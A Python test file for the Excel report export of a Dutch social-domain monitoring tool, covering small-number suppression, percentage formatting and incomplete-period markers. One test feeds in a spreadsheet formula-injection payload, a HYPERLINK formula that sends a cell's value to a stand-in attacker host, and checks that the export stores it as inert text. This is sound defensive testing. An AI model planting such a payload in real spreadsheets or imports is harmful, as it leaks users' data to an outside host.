from __future__ import annotations

from datetime import datetime
from pathlib import Path

from openpyxl import load_workbook

from sdmonitor.domain.periods import Grain, parse_label
from sdmonitor.loading import LoadOptions, load_allocations
from sdmonitor.reports.build import ReportModel, build_report
from sdmonitor.reports.render_xlsx import POINTS_FORMAT, write_xlsx
from sdmonitor.reports.template import Kpi, Section, Template
from sdmonitor.warehouse import Warehouse
from tests.builders import allocation, write_csv


def test_the_workbook_has_every_table_and_never_a_hidden_number(warehouse: Warehouse, tmp_path: Path) -> None:
    rows = [allocation(f"w{i}", client=f"W{i}", start="2018-01-10") for i in range(12)]
    rows += [allocation(f"j{i}", client=f"J{i}", law="JW", category="45", birth="2010-01-01", start="2018-01-10")
             for i in range(3)]  # fmt: skip
    load_allocations(warehouse, write_csv(tmp_path / "t.csv", rows), LoadOptions(), now=datetime(2024, 1, 1))
    template = Template("t", "Testrapport", Grain.HALF, 1, 5.0, (
        Section("wet", "Cliënten per wet", "clients", by=("law",), periods="report", totals=True),
    ))  # fmt: skip
    report = build_report(warehouse, template, parse_label("2018-H1"), as_of=None)
    path = write_xlsx(report, tmp_path / "rapport.xlsx")
    workbook = load_workbook(path)
    assert workbook.sheetnames == ["Cliënten per wet", "Toelichting"]
    values = [list(r) for r in workbook["Cliënten per wet"].iter_rows(min_row=3, values_only=True)]
    assert values[0] == ["Periode", "Wet", "Cliënten"]
    # Jeugdwet 3 is small; with the total shown, Wmo 12 is shielded too
    assert values[1:] == [["2018-H1", "Jeugdwet", "< 5"], ["2018-H1", "Wmo", "x"], ["Totaal", None, 15]]
    legend = {r[0]: r[1] for r in workbook["Toelichting"].iter_rows(values_only=True) if r[0] in ("< 5", "x")}
    assert set(legend) == {"< 5", "x"}


def _report_with_rates_and_key_figures(warehouse: Warehouse, tmp_path: Path) -> ReportModel:
    # Wmo: 20 clients in 2017-H1 and H2 who all leave on 2018-06-30, 22 in 2018-H1; Jeugdwet: 3 (small)
    rows = [allocation(f"w{i}", client=f"W{i}", start="2017-01-10", end="2018-06-30") for i in range(20)]
    rows += [allocation(f"n{i}", client=f"N{i}", start="2018-03-01") for i in range(2)]
    rows += [allocation(f"j{i}", client=f"J{i}", law="JW", category="45", birth="2010-01-01", start="2017-01-10")
             for i in range(3)]  # fmt: skip
    load_allocations(warehouse, write_csv(tmp_path / "t.csv", rows), LoadOptions(), now=datetime(2019, 1, 1))
    template = Template("t", "Testrapport", Grain.HALF, 3, 5.0, (
        Section("wet", "Per wet", "clients", by=("law",), growth=True),
        Section("kolommen", "Per wet in kolommen", "clients", by=("law",), growth=True, layout="columns"),
        Section("uitstroom", "Uitstroom", "outflow_rate", by=("law",)),
    ), summary=(
        Kpi("wmo", "Cliënten Wmo", metric="clients", filter=(("law", "WMO"),), target=21),
        Kpi("jw", "Cliënten Jeugdwet", metric="clients", filter=(("law", "JW"),)),
        Kpi("uit", "Uitstroom Wmo", metric="outflow_rate", filter=(("law", "WMO"),), measure="outflow_rate",
            target=0.25),
    ))  # fmt: skip
    return build_report(warehouse, template, parse_label("2018-H1"), as_of=None)


def test_key_figures_are_numbers_with_rates_and_changes_as_percentages(
    warehouse: Warehouse, tmp_path: Path
) -> None:
    report = _report_with_rates_and_key_figures(warehouse, tmp_path)
    sheet = load_workbook(write_xlsx(report, tmp_path / "rapport.xlsx"))["Kerncijfers"]
    wmo, jw, outflow = (list(row) for row in sheet.iter_rows(min_row=4, max_row=6))
    assert [c.value for c in wmo[:4]] == ["Cliënten Wmo", 22, 20, 0.1]
    assert [c.number_format for c in wmo[1:4]] == ["#,##0", "#,##0", "0.0%"]
    assert (wmo[6].value, wmo[6].number_format) == (21, "#,##0")
    # small figures stay text, and nothing is derived from them
    assert [c.value for c in jw[1:4]] == ["< 5", "< 5", None]
    # a rate is a fraction shown as a percentage: 20 of 22 Wmo clients left
    assert outflow[1].value == 0.9091 and outflow[1].number_format == "0.0%"
    assert (outflow[6].value, outflow[6].number_format) == (0.25, "0.0%")
    # a rate's change is in percentage points (20 of 22 left, against none before), not a relative change
    assert (outflow[3].value, outflow[3].number_format) == (90.9, POINTS_FORMAT)
    assert jw[6].value == "geen streefwaarde" and jw[7].value is None


def test_rate_and_change_columns_have_a_percent_format(warehouse: Warehouse, tmp_path: Path) -> None:
    report = _report_with_rates_and_key_figures(warehouse, tmp_path)
    workbook = load_workbook(write_xlsx(report, tmp_path / "rapport.xlsx"))
    checked = 0
    for name in ("Per wet", "Per wet in kolommen", "Uitstroom"):
        rows = list(workbook[name].iter_rows(min_row=3))
        headers = [c.value for c in rows[0]]
        for row in rows[1:]:
            for header, cell in zip(headers, row, strict=False):
                if isinstance(cell.value, int | float) and header in ("Verschil %", "Uitstroom %"):
                    assert cell.number_format == "0.0%", (name, header, cell.value)
                    assert -1 <= cell.value <= 1 or header == "Verschil %"
                    checked += 1
    assert checked >= 3
    change = [
        r for r in workbook["Per wet"].iter_rows(min_row=4, values_only=True) if r[:2] == ("2018-H1", "Wmo")
    ]
    headers = [c.value for c in next(workbook["Per wet"].iter_rows(min_row=3, max_row=3))]
    assert change[0][headers.index("Verschil %")] == 0.1  # 10 % is stored as 0.1


def test_no_hidden_figure_is_stored_as_a_number(warehouse: Warehouse, tmp_path: Path) -> None:
    report = _report_with_rates_and_key_figures(warehouse, tmp_path)
    workbook = load_workbook(write_xlsx(report, tmp_path / "rapport.xlsx"))
    hidden = 0
    for section in report.sections:
        sheet, top = workbook[section.section.title], 3
        for table in (t for t in (section.shown, section.compare) if t is not None):
            for r, row in enumerate(table.rows, start=top + 1):
                for c, cell in enumerate(row, start=1):
                    if cell.hidden:
                        assert sheet.cell(r, c).value == cell.text, (section.section.name, r, c)
                        hidden += 1
            top += len(table.rows) + 3
    assert hidden >= 6  # the Jeugdwet counts, and the rates and changes derived from them
    numbers = {
        c.value for s in workbook for r in s.iter_rows() for c in r if isinstance(c.value, int | float)
    }
    assert 3 not in numbers  # the three Jeugdwet clients appear nowhere as a number


def test_a_load_source_or_file_name_like_a_formula_is_stored_as_text(
    warehouse: Warehouse, tmp_path: Path
) -> None:
    from sdmonitor.reports.run import make_report
    from sdmonitor.reports.template import builtin_path, read_template

    rows = [allocation(f"w{i}", client=f"W{i}", start="2018-01-10") for i in range(12)]
    formula = '=HYPERLINK("http://aanvaller.example/?"&A1,"klik")'
    load_allocations(
        warehouse, write_csv(tmp_path / "=1+2@SUM(A1).csv", rows), LoadOptions(source=formula),
        now=datetime(2018, 7, 1),
    )  # fmt: skip
    files = make_report(
        warehouse,
        read_template(builtin_path("kwartaal")),
        "2018-Q1",
        tmp_path / "out",
        now=datetime(2026, 1, 1),
    )
    workbook = load_workbook(files.xlsx)
    cells = [
        cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.value is not None
    ]
    assert cells and all(cell.data_type in ("s", "n") for cell in cells)  # no formula ('f') anywhere
    texts = {cell.value for cell in cells}
    assert formula in texts and "=1+2@SUM(A1).csv" in texts
    assert not any(cell.hyperlink for cell in cells)


def test_a_key_figure_of_an_incomplete_period_is_marked_and_a_period_before_the_data_is_no_data(
    warehouse: Warehouse, tmp_path: Path
) -> None:
    rows = [allocation(f"w{i}", client=f"W{i}", start="2017-01-10") for i in range(20)]
    load_allocations(warehouse, write_csv(tmp_path / "t.csv", rows), LoadOptions(), now=datetime(2019, 1, 1))
    template = Template("t", "Testrapport", Grain.HALF, 3, 5.0, (Section("wet", "Per wet", "clients"),), summary=(
        Kpi("wmo", "Cliënten Wmo", metric="clients", filter=(("law", "WMO"),)),
        Kpi("in", "Instroom Wmo", metric="flows", measure="inflow", filter=(("law", "WMO"),)),
    ))  # fmt: skip
    report = build_report(warehouse, template, parse_label("2017-H1"), as_of=None)
    sheet = load_workbook(write_xlsx(report, tmp_path / "rapport.xlsx"))["Kerncijfers"]
    header, clients, inflow = ([c.value for c in row] for row in sheet.iter_rows(min_row=3, max_row=5))
    assert header[8:] == ["Status", "Langjarig sinds"]
    assert clients[:3] == ["Cliënten Wmo", 20, "geen gegevens"]  # 2016-H2 lies before the data: not 0
    assert inflow[:3] == ["Instroom Wmo", 20, "geen gegevens"] and inflow[8] == "onvolledig"
    assert inflow[5] == "geen langjarige trend" and inflow[9] is None
